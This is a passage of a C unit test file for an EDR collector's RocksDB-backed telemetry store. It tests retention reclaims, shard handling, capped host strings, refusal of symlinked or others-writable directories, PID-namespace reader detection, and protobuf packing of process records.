    return (uint64_t)(sv.f_blocks - sv.f_bfree) * sv.f_frsize;
}

/* Shards of one process reclaim at once (each with its own compaction
 * thread: before, every shard's compactions queued on one), and the room a
 * reclaim asks for counts what the others running may still write: on a
 * file system with room for one and a half, the second waits for the
 * first, then runs (review-1206m 8). Needs root (a tmpfs). */
static void test_reclaims_of_shards_share_room(void **state)
{
    (void)state;
    char err[512], fs[600];
    snprintf(fs, sizeof(fs), "%s/fs", dir);
    assert_int_equal(mkdir(fs, 0700), 0);
    if (mount("tmpfs", fs, "tmpfs", MS_NOSUID | MS_NODEV, "size=512m,mode=0700") != 0) {
        printf("SKIP test_reclaims_of_shards_share_room: cannot mount a tmpfs: %s\n",
               strerror(errno));
        return;
    }
    const uint64_t t0 = 1767225600000000000ull, hr = EDR_STORE_BUCKET_NS;
    enum { HOURS = 24, KEEP = 6 };
    edr_store_opts_t o = {.write_buffer = 1 << 20};
    edr_store_writer_t *w[2];
    uint64_t x = 88172645463325252ull, seq = 1;
    for (unsigned i = 0; i < 2; i++) {
        uint8_t hid[16] = {0x70, (uint8_t)i};
        w[i] = edr_store_writer_open(fs, i, &o, err, sizeof(err));
        assert_non_null(w[i]);
        file_hours(w[i], hid, t0, 0, HOURS, &x, &seq);
    }
    /* the first holds room for its output while it runs */
    atomic_store(&edr__store_reclaim_gate, 1);
    uint64_t cut = t0 + (uint64_t)(HOURS - KEEP) * hr;
    assert_int_equal(edr_store_writer_retire(w[0], cut), 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w[0], 0), 1);
    uint64_t held = edr__store_reclaim_held();
    assert_true(held > 0);
    /* room for the default 64 MiB margin and one and a half outputs */
    char opt[64];
    uint64_t size = fs_used(fs) + (64u << 20) + held * 3 / 2;
    snprintf(opt, sizeof(opt), "size=%llu,mode=0700", (unsigned long long)size);
    assert_int_equal(mount("tmpfs", fs, "tmpfs", MS_REMOUNT | MS_NOSUID | MS_NODEV, opt), 0);
    assert_int_equal(edr_store_writer_retire(w[1], cut), 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w[1], 0), 0); /* skipped, logged */
    /* once the first is done, the second runs at the next retention run */
    atomic_store(&edr__store_reclaim_gate, 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w[0], 1), 1);
    assert_int_equal(edr__store_reclaim_held(), 0);
    assert_int_equal(edr_store_writer_retire(w[1], cut + hr), 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w[1], 1), 1);
    assert_int_equal(edr__store_reclaim_held(), 0);
    for (unsigned i = 0; i < 2; i++)
        edr_store_writer_destroy(w[i]);
    edr_store_t *r = edr_store_open(fs, NULL, err, sizeof(err));
    assert_non_null(r);
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_int_equal(ss.blocks, (uint64_t)(KEEP + KEEP - 1) * RET_PER_HOUR);
    edr_store_destroy(r);
    assert_int_equal(umount(fs), 0);
}

static int pick_fn(const Edr__V1__HostRecord *h, const Edr__V1__Event *health, void *ud)
{
    (void)health;
    uint64_t *seen = ud;
    seen[0]++;
    seen[1] = h->first_seen_ns;
    seen[2] = h->last_seq;
    return 0;
}

/* A host with batches in two shards (its partition changed with the topic's
 * partition count) is listed once: the record of the shard that saw it
 * last, with the first time any saw it (it was listed twice, and counted
 * twice by stats: review-1206p-kafka F5). */
static void test_host_in_two_shards_listed_once(void **state)
{
    (void)state;
    char err[512];
    uint8_t hid[16] = {0x77, 2};
    const uint64_t t0 = 1767225600000000000ull;
    for (unsigned sh = 0; sh < 2; sh++) {
        edr_store_writer_t *w = edr_store_writer_open(dir, sh, NULL, err, sizeof(err));
        assert_non_null(w);
        Edr__V1__Event e = EDR__V1__EVENT__INIT;
        uint8_t ent[16] = {0x10, (uint8_t)sh};
        e.entity_id.data = ent;
        e.parent_entity_id.data = ent;
        add_one(w, hid, 10 + sh, t0 + sh * 1000000000ull, &e);
        edr_store_writer_destroy(w);
    }
    edr_store_t *r = open_reader();
    uint64_t seen[3] = {0};
    assert_int_equal(edr_store_hosts(r, pick_fn, seen), 0);
    assert_int_equal(seen[0], 1);
    assert_int_equal(seen[1], t0); /* the first time, from shard 0 */
    assert_int_equal(seen[2], 11); /* the record of shard 1, which saw it last */
    edr_store_stats_t st;
    assert_int_equal(edr_store_stats(r, &st), 0);
    assert_int_equal(st.hosts, 1);
    edr_store_destroy(r);
}

static int long_name_fn(const Edr__V1__HostRecord *h, const Edr__V1__Event *health, void *ud)
{
    (void)health;
    *(size_t *)ud = strlen(h->hostname);
    return 0;
}

/* A host's record keeps at most 255 bytes of each sensor string, cut at a
 * whole UTF-8 character; the batch keeps the whole value. A 4 MB host name
 * in each of 300 tiny frames held 2 GB of the collector's memory
 * (review-1206p-sec 2). */
static void test_host_strings_capped(void **state)
{
    (void)state;
    char err[512];
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    size_t len = 1 << 20;
    char *name = malloc(len + 1);
    assert_non_null(name);
    memset(name, 'a', len);
    memcpy(name + 254, "\xc3\xa9", 2); /* an e-acute across the limit: left out whole */
    name[len] = 0;
    uint8_t hid[16] = {0x5e, 1};
    Edr__V1__Event e = EDR__V1__EVENT__INIT, *evs[1] = {&e};
    uint8_t ent[16] = {1};
    e.entity_id.data = ent;
    e.entity_id.len = 16;
    assert_int_equal(add_named(w, hid, name, 1, 1767225600000000000ull, evs, 1), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_store_writer_destroy(w);
    free(name);
    edr_store_t *r = open_reader();
    size_t kept = 0;
    assert_int_equal(edr_store_hosts(r, long_name_fn, &kept), 0);
    assert_int_equal(kept, 254);
    edr_store_destroy(r);
}

/* The writer keeps telemetry where only its user can reach it: it refuses a
 * store or shard directory that is a symbolic link, owned by another user
 * or writable by group or others, and makes its own 0700 (root followed a
 * link another user planted as a shard, wrote the store where that user
 * reads it and chmod'ed the link's target: review-1206p-sec 1). */
static void test_writer_refuses_dirs_others_control(void **state)
{
    (void)state;
    char err[512], p[256], q[256];
    /* a shard that is a link */
    snprintf(p, sizeof(p), "%s/elsewhere", dir);
    assert_int_equal(mkdir(p, 0755), 0);
    snprintf(q, sizeof(q), "%s/st", dir);
    assert_int_equal(mkdir(q, 0700), 0);
    snprintf(q, sizeof(q), "%s/st/shard-0000", dir);
    assert_int_equal(symlink(p, q), 0);
    snprintf(q, sizeof(q), "%s/st", dir);
    assert_null(edr_store_writer_open(q, 0, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "shard-0000: is a symbolic link: refusing"));
    struct stat sb;
    assert_int_equal(stat(p, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0755); /* the link's target is left alone */
    /* a store that is a link */
    snprintf(q, sizeof(q), "%s/st-link", dir);
    assert_int_equal(symlink(p, q), 0);
    assert_null(edr_store_writer_open(q, 0, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "st-link: is a symbolic link: refusing"));
    /* a store others may write into */
    snprintf(q, sizeof(q), "%s/st-open", dir);
    assert_int_equal(mkdir(q, 0700), 0);
    assert_int_equal(chmod(q, 0777), 0);
    assert_null(edr_store_writer_open(q, 0, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "writable by others: refusing"));
    /* a store another user owns (only root can make one) */
    if (geteuid() == 0) {
        assert_int_equal(chmod(q, 0700), 0);
        assert_int_equal(chown(q, 65534, 65534), 0);
        assert_null(edr_store_writer_open(q, 0, NULL, err, sizeof(err)));
        assert_non_null(strstr(err, "owned by uid 65534, not 0: refusing"));
        /* a store below a directory another user owns: that user could put
         * a link in its place between the check and RocksDB's open
         * (review-1206q 1) */
        snprintf(p, sizeof(p), "%s/st-open/below", dir);
        assert_null(edr_store_writer_open(p, 0, NULL, err, sizeof(err)));
        assert_non_null(strstr(err, "st-open is owned by uid 65534: refusing"));
        assert_int_not_equal(access(p, F_OK), 0); /* nothing made in it first */
    }
    /* a new store and shard: 0700, made before anything is written in them */
    snprintf(q, sizeof(q), "%s/new/st", dir);
    edr_store_writer_t *w = edr_store_writer_open(q, 3, NULL, err, sizeof(err));
    assert_non_null(w);
    edr_store_writer_destroy(w);
    assert_int_equal(stat(q, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0700);
    snprintf(q, sizeof(q), "%s/new/st/shard-0003", dir);
    assert_int_equal(stat(q, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0700);
}

/* Every shard's compactions share RocksDB's one pool per process: it grows
 * to a thread per open writer, up to the CPUs the process may use (it stayed
 * at one thread, and four shards' reclaims ran one after another:
 * review-1206m 8), and never past them (16 shards at once on two cores took
 * a fifth of the ingest rate). The pool is never shrunk, so the test checks
 * the size after more writers than CPUs. */
static void test_compaction_pool_grows_with_writers(void **state)
{
    (void)state;
    char err[512];
    unsigned cpus = edr_cpu_budget(), n = cpus + 1;
    edr_store_writer_t **w = calloc(n, sizeof(*w));
    assert_non_null(w);
    for (unsigned i = 0; i < n; i++) {
        w[i] = edr_store_writer_open(dir, i, NULL, err, sizeof(err));
        assert_non_null(w[i]);
    }
    rocksdb_env_t *env = rocksdb_create_default_env();
    int threads = rocksdb_env_get_background_threads(env);
    rocksdb_env_destroy(env);
    for (unsigned i = 0; i < n; i++)
        edr_store_writer_destroy(w[i]);
    free(w);
    print_message("compaction pool: %d threads, %u CPUs to use\n", threads, cpus);
    assert_int_equal(threads, (int)cpus);
}

/* A reader tells a shard a writer holds (opened as a secondary) from one
 * nothing writes (read-only), also from another PID namespace: /proc/locks
 * there leaves out the writer's lock, and a reader in another container
 * opened a live shard read-only ('Corruption: Can't access NNN.sst' while
 * the writer compacted: review-1206l M1). The writer is this process; the
 * reader is a child in a new PID and mount namespace with its own /proc.
 * Needs root. */
static void test_reader_sees_writer_across_pid_namespaces(void **state)
{
    (void)state;
    char err[512];
    if (geteuid() != 0) {
        print_message("SKIP: needs root for a PID namespace\n");
        skip();
    }
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    fill(w, 4);
    pid_t c = fork();
    assert_true(c >= 0);
    if (c == 0) {
        /* the child: a new PID namespace takes effect for its children */
        if (unshare(CLONE_NEWPID | CLONE_NEWNS) != 0) _exit(3);
        pid_t g = fork();
        if (g < 0) _exit(4);
        if (g == 0) {
            if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
                mount("proc", "/proc", "proc", 0, NULL) != 0)
                _exit(5);
            edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
            if (!r) _exit(6);
            int sec = edr__store_secondary(r, 0);
            edr_store_destroy(r);
            _exit(sec ? 0 : 7);
        }
        int gs;
        if (waitpid(g, &gs, 0) != g) _exit(8);
        _exit(WIFEXITED(gs) ? WEXITSTATUS(gs) : 9);
    }
    int cs;
    assert_int_equal(waitpid(c, &cs, 0), c);
    assert_true(WIFEXITED(cs));
    if (WEXITSTATUS(cs) == 3 || WEXITSTATUS(cs) == 5) {
        edr_store_writer_destroy(w);
        print_message("SKIP: no PID or mount namespace here\n");
        skip();
    }
    assert_int_equal(WEXITSTATUS(cs), 0); /* 7: opened read-only beside the writer */
    edr_store_writer_destroy(w);
    /* nothing writes now: read-only, here */
    edr_store_t *r = open_reader();
    assert_int_equal(edr__store_secondary(r, 0), 0);
    edr_store_destroy(r);
}

/* Process records packed by proc_pack.c are byte for byte protobuf-c's own
 * packing and decode to what was packed, over records with every field zero
 * or set in turn (negative exit codes: ten-byte varints,
 * NULL and empty strings, fields 16 and up: two-byte tags). A field added
 * to ProcessRecord fails here until proc_pack.c packs it. */
/* A weak image (named by an event other than the start: imports) fills a
 * record that has none, and any start's image replaces it; a weak one
 * never replaces a start's (review-1206n-import 3). */
static void test_proc_merge_weak_image(void **state)
{
    (void)state;
    Edr__V1__ProcessRecord weak = EDR__V1__PROCESS_RECORD__INIT,
                           strong = EDR__V1__PROCESS_RECORD__INIT,
                           other = EDR__V1__PROCESS_RECORD__INIT;
    weak.exe = "java";
    weak.image_weak = 1;
    strong.exe = "/usr/bin/java";
    strong.command_line = "java -jar app.jar";
    other.exe = "javaw";
    other.image_weak = 1;
    Edr__V1__ProcessRecord acc = EDR__V1__PROCESS_RECORD__INIT;
    edr__proc_merge(&acc, &weak);
    assert_string_equal(acc.exe, "java");
    assert_true(acc.image_weak);
    edr__proc_merge(&acc, &other); /* a bare name does not replace one */
    assert_string_equal(acc.exe, "java");
    Edr__V1__ProcessRecord full = EDR__V1__PROCESS_RECORD__INIT;
    full.exe = "/usr/lib/jvm/bin/java";
    full.image_weak = 1;
    edr__proc_merge(&acc, &full); /* a path does (an exit names the short name first) */
    assert_string_equal(acc.exe, "/usr/lib/jvm/bin/java");
    edr__proc_merge(&acc, &weak);
    assert_string_equal(acc.exe, "/usr/lib/jvm/bin/java");
    edr__proc_merge(&acc, &strong);
    assert_string_equal(acc.exe, "/usr/bin/java");
    assert_false(acc.image_weak);
    edr__proc_merge(&acc, &weak);
    assert_string_equal(acc.exe, "/usr/bin/java");
    assert_string_equal(acc.command_line, "java -jar app.jar");
}

static void test_proc_record_pack(void **state)
{
    (void)state;
    assert_int_equal(edr__v1__process_record__descriptor.n_fields, 23);
    static uint8_t id[16], par[16], host[16], sha[32], fb[BREF_LEN], lb[BREF_LEN];
    static const char *const strs[] = {NULL, "", "/usr/bin/x", "a\nb \"quoted\" \xc3\xa9"};
    uint64_t rng = 88172645463325252ull;
    for (int i = 0; i < 4000; i++) {
        uint64_t bits = rng ^= rng << 13, v;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        v = rng;
        Edr__V1__ProcessRecord r = EDR__V1__PROCESS_RECORD__INIT;
#define PICK_BYTES(f, buf, k)                                                                      \
    if (bits >> (k)&1) {                                                                           \
        memset(buf, (int)(v >> (k)), sizeof(buf));                                                 \
        r.f.data = buf;                                                                            \
        r.f.len = sizeof(buf);                                                                     \
    }
        PICK_BYTES(entity_id, id, 0)
        PICK_BYTES(host_id, host, 1)
        PICK_BYTES(parent_entity_id, par, 2)
        PICK_BYTES(exe_sha256, sha, 3)
        PICK_BYTES(first_block, fb, 4)
        PICK_BYTES(last_block, lb, 5)
#undef PICK_BYTES
        r.pid = bits >> 6 & 1 ? (uint32_t)v : 0;
        r.ppid = bits >> 7 & 1 ? (uint32_t)(v >> 3) : 0;
        r.uid = bits >> 8 & 1 ? UINT32_MAX : 0;
        r.start_time_ns = bits >> 9 & 1 ? v : 0;
        r.end_time_ns = bits >> 10 & 1 ? v >> 20 : 0;
        r.exit_code = bits >> 11 & 1 ? (bits >> 12 & 1 ? -1 : 127) : 0;
        r.exit_signal = bits >> 13 & 1 ? (bits >> 14 & 1 ? INT32_MIN : 9) : 0;
        r.exec_count = bits >> 15 & 1 ? 3 : 0;
        r.child_bucket = bits >> 16 & 1 ? 493000 : 0;
        r.alive_bucket = bits >> 27 & 1 ? 493001 : 0;
        r.image_weak = bits >> 28 & 1;
        r.exit_unknown = bits >> 29 & 1;
        r.exe = (char *)strs[bits >> 17 & 3];
        r.command_line = (char *)strs[bits >> 19 & 3];
        r.cwd = (char *)strs[bits >> 21 & 3];
        r.user = (char *)strs[bits >> 23 & 3];
        r.container_id = (char *)strs[bits >> 25 & 3];
        size_t lens[5], max = edr__proc_record_size_max(&r, lens);
        uint8_t mine[512], theirs[512];
        assert_true(max <= sizeof(mine));
        size_t n = edr__proc_record_pack(&r, lens, mine);
        assert_true(n <= max);
        size_t tn = edr__v1__process_record__pack(&r, theirs);
        assert_int_equal(n, tn);
        assert_memory_equal(mine, theirs, n);
        Edr__V1__ProcessRecord *d = edr__v1__process_record__unpack(NULL, n, mine);
        assert_non_null(d);
        assert_int_equal(d->pid, r.pid);
        assert_int_equal(d->exit_code, r.exit_code);
        assert_int_equal(d->exit_signal, r.exit_signal);
        assert_true(d->start_time_ns == r.start_time_ns && d->child_bucket == r.child_bucket);
        assert_int_equal(d->first_block.len, r.first_block.len);
        assert_string_equal(d->command_line, r.command_line ? r.command_line : "");
        edr__v1__process_record__free_unpacked(d, NULL);
    }
    /* empty bytes whose data is set: left out, as protobuf-c leaves them */
    Edr__V1__ProcessRecord r = EDR__V1__PROCESS_RECORD__INIT;
    r.last_block.data = lb;
    r.pid = 7;
    size_t lens[5];
    uint8_t out[64];
    (void)edr__proc_record_size_max(&r, lens);
    size_t n = edr__proc_record_pack(&r, lens, out);
    assert_int_equal(n, 2);
    assert_int_equal(edr__v1__process_record__get_packed_size(&r), n);
}

int main(int argc, char **argv)
{
    if (argc == 6 && !strcmp(argv[1], "--no-wal-child"))
        return no_wal_child(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_write_dedup_read, setup, teardown),
        cmocka_unit_test_setup_teardown(test_entity_events_exact, setup, teardown),
        cmocka_unit_test_setup_teardown(test_window_across_hours, setup, teardown),
        cmocka_unit_test_setup_teardown(test_callback_stop, setup, teardown),
        cmocka_unit_test_setup_teardown(test_index_rewrites, setup, teardown),
        cmocka_unit_test_setup_teardown(test_many_distinct_in_batch, setup, teardown),
        cmocka_unit_test_setup_teardown(test_parent_kept_by_children, setup, teardown),
        cmocka_unit_test_setup_teardown(test_corrupt_host_number, setup, teardown),
        cmocka_unit_test_setup_teardown(test_failed_add_taken_back, setup, teardown),
        cmocka_unit_test_setup_teardown(test_damaged_block_counted, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ancestry_across_shards, setup, teardown),
        cmocka_unit_test_setup_teardown(test_wrong_wire_type_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_no_wal_flush_and_crash, setup, teardown),
        cmocka_unit_test_setup_teardown(test_want_wal, setup, teardown),
        cmocka_unit_test_setup_teardown(test_want_wal_flushes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_postings_gathered, setup, teardown),
        cmocka_unit_test_setup_teardown(test_newer_format_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_postings_per_hour_and_long_groups, setup, teardown),
        cmocka_unit_test_setup_teardown(test_format_marker_written, setup, teardown),
        cmocka_unit_test_setup_teardown(test_open_errors, setup, teardown),
        cmocka_unit_test_setup_teardown(test_full_disk_refused, setup, teardown),
        cmocka_unit_test(test_proc_record_pack),
        cmocka_unit_test(test_proc_merge_weak_image),
        cmocka_unit_test_setup_teardown(test_reader_damaged_store, setup, teardown),
        cmocka_unit_test_setup_teardown(test_refresh_after_flush, setup, teardown),
        cmocka_unit_test_setup_teardown(test_retention_keeps_running_ancestors, setup, teardown),
        cmocka_unit_test_setup_teardown(test_retention_frees_disk, setup, teardown),
        cmocka_unit_test_setup_teardown(test_reclaim_beside_writes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_reclaims_of_shards_share_room, setup, teardown),
        cmocka_unit_test_setup_teardown(test_compaction_pool_grows_with_writers, setup, teardown),
        cmocka_unit_test_setup_teardown(test_writer_refuses_dirs_others_control, setup, teardown),
        cmocka_unit_test_setup_teardown(test_host_strings_capped, setup, teardown),
        cmocka_unit_test_setup_teardown(test_host_in_two_shards_listed_once, setup, teardown),
        cmocka_unit_test_setup_teardown(test_reclaim_stops_after_failed_write, setup, teardown),
        cmocka_unit_test_setup_teardown(test_reader_sees_writer_across_pid_namespaces, setup,
                                        teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
